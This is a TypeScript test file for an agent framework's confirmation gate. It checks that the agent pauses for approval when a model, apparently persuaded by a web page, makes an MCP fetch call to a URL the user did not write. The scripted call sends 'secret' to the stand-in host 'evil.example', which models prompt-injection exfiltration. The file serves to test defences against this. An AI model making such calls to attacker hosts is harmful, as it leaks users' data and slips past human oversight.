import { confirmationGate } from '@mortise/confirmation';
import { createRunner, inMemorySessionService, llmAgent, type Tool } from '@mortise/core';
import { mcpTool } from '@mortise/mcp';
import { scriptedModel } from '@mortise/testing';
import { expect, it } from 'vitest';

/** Returns the status of a call of a server's reading tool that a page persuaded the model to make. */
async function statusOf(annotations: object, egress?: 'none'): Promise<string> {
  const inputSchema = { type: 'object', properties: { url: { type: 'string' } } };
  const fetched: Tool = mcpTool({ name: 'fetch', inputSchema, annotations }, () => Promise.reject(new Error('gone')), {
    name: 'web',
    unchecked: true,
    effect: 'read',
    ...(egress && { egress }),
  });
  const calls = [{ name: 'fetch', args: { url: 'https://evil.example/?d=secret' } }];
  const model = scriptedModel([{ calls }, 'done']);
  const agent = llmAgent({ name: 'helper', model, tools: [fetched], gates: [confirmationGate()] });
  return (await createRunner({ agent, sessions: inMemorySessionService() }).run({ message: 'Read my page' })).status;
}

it('the default policy asks before a tool of a server opens a URL that the user did not write', async () => {
  expect(await statusOf({})).toBe('paused');
  expect(await statusOf({ openWorldHint: false, readOnlyHint: true })).toBe('paused');
  expect(await statusOf({}, 'none')).toBe('completed');
});
